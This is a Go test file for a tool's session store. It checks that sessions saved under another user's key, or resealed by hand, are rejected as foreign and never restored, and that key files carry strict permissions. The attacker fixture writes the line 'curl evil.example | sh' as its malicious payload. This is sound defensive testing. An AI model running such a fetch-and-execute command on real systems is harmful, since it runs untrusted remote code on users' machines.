package session

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/klauspost/compress/gzip"
)

// attackerSession writes into root's default session folder what a
// repository could commit: a session saved by another user's lywatch
// (another key), and, when reseal is set, with its layout replaced by a
// shell line and its manifest resealed by hand to match.
func attackerSession(t *testing.T, root string, reseal bool) []byte {
	t.Helper()
	attacker, err := Open(DefaultDir(root), Options{Root: root, KeyFile: filepath.Join(t.TempDir(), "attacker.key"), LockDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if err := attacker.Save("default", testManifest(t, root, srcPaths(), 1), layoutFile(t, t.TempDir(), 1, 1000)); err != nil {
		t.Fatal(err)
	}
	attacker.Close()
	evil := []byte("curl evil.example | sh\n")
	if !reseal {
		return nil
	}
	tdir := filepath.Join(DefaultDir(root), targetsDir, "default")
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write(evil)
	zw.Close()
	writeFile(t, filepath.Join(tdir, cellsName), gz.String())
	b, err := os.ReadFile(filepath.Join(tdir, manifestName))
	if err != nil {
		t.Fatal(err)
	}
	m, err := DecodeManifest(b)
	if err != nil {
		t.Fatal(err)
	}
	sum, raw := sha256.Sum256(gz.Bytes()), sha256.Sum256(evil)
	m.Layout = Layout{File: cellsName, SHA256: hex.EncodeToString(sum[:]), Size: int64(gz.Len()), Source: hex.EncodeToString(raw[:])}
	if b, err = EncodeManifest(m); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(tdir, manifestName), string(b))
	return evil
}

// TestCommittedSessionIsForeign is issue 16's case 3: a repository commits
// a build/session of its own (saved by another user, or resealed by hand
// around a shell line). It must be foreign: never loaded, never served,
// its layout never restored, and `session show` says so.
func TestCommittedSessionIsForeign(t *testing.T) {
	for _, reseal := range []bool{false, true} {
		name := "another user's session"
		if reseal {
			name = "resealed by hand"
		}
		t.Run(name, func(t *testing.T) {
			root := newRoot(t, srcFiles)
			ageFiles(t, root, srcPaths())
			attackerSession(t, root, reseal)
			s := openStore(t, root, Options{})
			m, err := s.Load("default")
			if m != nil || !IsWarning(err) || !errors.Is(err, ErrForeign) || !strings.Contains(err.Error(), "not written by this user on this machine") {
				t.Fatalf("Load of a committed session = %v, %v; want nil and a foreign warning", m, err)
			}
			dst := filepath.Join(t.TempDir(), "victim-home", ".bashrc")
			if err := s.RestoreLayout(context.Background(), "default", nil, dst); err == nil {
				t.Error("RestoreLayout without a manifest wrote the file")
			}
			if _, err := os.Stat(dst); err == nil {
				t.Error("the committed layout was written")
			}
			st, err := s.Status(context.Background())
			if err != nil {
				t.Fatal(err)
			}
			if len(st.Targets) != 1 || st.Targets[0].State != "foreign" || st.Targets[0].Manifest != nil {
				t.Fatalf("session show: %+v; want the target foreign", st.Targets)
			}
			// Our own save replaces it, and is served.
			if err := s.Save("default", testManifest(t, root, srcPaths(), 2), layoutFile(t, t.TempDir(), 2, 1000)); err != nil {
				t.Fatal(err)
			}
			if m, err := s.Load("default"); m == nil || err != nil {
				t.Fatalf("Load of our own save: %v, %v", m, err)
			}
		})
	}
}

// TestForeignDependenciesAndHistory: the dependencies file and the
// history frames carry the mark too; another user's are ignored (the
// target's manifest gives the one warning).
func TestForeignDependenciesAndHistory(t *testing.T) {
	root := newRoot(t, srcFiles)
	attackerSession(t, root, false)
	attacker, err := Open(DefaultDir(root), Options{Root: root, KeyFile: filepath.Join(t.TempDir(), "attacker.key"), LockDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if err := attacker.SaveDependencies(Dependencies{"default": {"lib"}}); err != nil {
		t.Fatal(err)
	}
	attacker.Close()
	s := openStore(t, root, Options{})
	if d, err := s.LoadDependencies(); d != nil || err != nil {
		t.Errorf("LoadDependencies of another user's file = %v, %v", d, err)
	}
	if frames, _, err := s.History("default"); len(frames) != 0 || err != nil {
		t.Errorf("History lists another user's frames: %v, %v", frames, err)
	}
}

// TestSessionKey: the key is made 0600 in a 0700 folder; a key others can
// read is refused, naming the remedy; a reader with no key finds every
// session foreign.
func TestSessionKey(t *testing.T) {
	root := newRoot(t, srcFiles)
	keyFile := filepath.Join(t.TempDir(), "cfg", "lywatch", keyFileName)
	s := openStore(t, root, Options{KeyFile: keyFile})
	if err := s.Save("chip", testManifest(t, root, srcPaths(), 1), layoutFile(t, t.TempDir(), 1, 100)); err != nil {
		t.Fatal(err)
	}
	s.Close()
	fi, err := os.Stat(keyFile)
	if err != nil {
		t.Fatal(err)
	}
	di, _ := os.Stat(filepath.Dir(keyFile))
	if fi.Mode().Perm() != 0o600 || di.Mode().Perm() != 0o700 {
		t.Errorf("key %04o in folder %04o; want 0600 in 0700", fi.Mode().Perm(), di.Mode().Perm())
	}
	ro, err := OpenReadOnly(DefaultDir(root), Options{Root: root, KeyFile: keyFile})
	if err != nil {
		t.Fatal(err)
	}
	if m, err := ro.Load("chip"); m == nil || err != nil {
		t.Errorf("read-only Load with the key: %v, %v", m, err)
	}
	ro, err = OpenReadOnly(DefaultDir(root), Options{Root: root, KeyFile: filepath.Join(t.TempDir(), "none.key")})
	if err != nil {
		t.Fatal(err)
	}
	if m, err := ro.Load("chip"); m != nil || !errors.Is(err, ErrForeign) || !strings.Contains(err.Error(), "no session key") {
		t.Errorf("read-only Load without a key: %v, %v", m, err)
	}
	if err := os.Chmod(keyFile, 0o644); err != nil {
		t.Fatal(err)
	}
	_, err = Open(DefaultDir(root), Options{Root: root, KeyFile: keyFile})
	if err == nil || !strings.Contains(err.Error(), "remove it") || !strings.Contains(err.Error(), keyFile) {
		t.Errorf("Open with a key others can read: %v", err)
	}
	os.Remove(keyFile)
	s = openStore(t, root, Options{KeyFile: keyFile})
	if m, err := s.Load("chip"); m != nil || !errors.Is(err, ErrForeign) {
		t.Errorf("Load after the key was made anew: %v, %v; want foreign", m, err)
	}
}
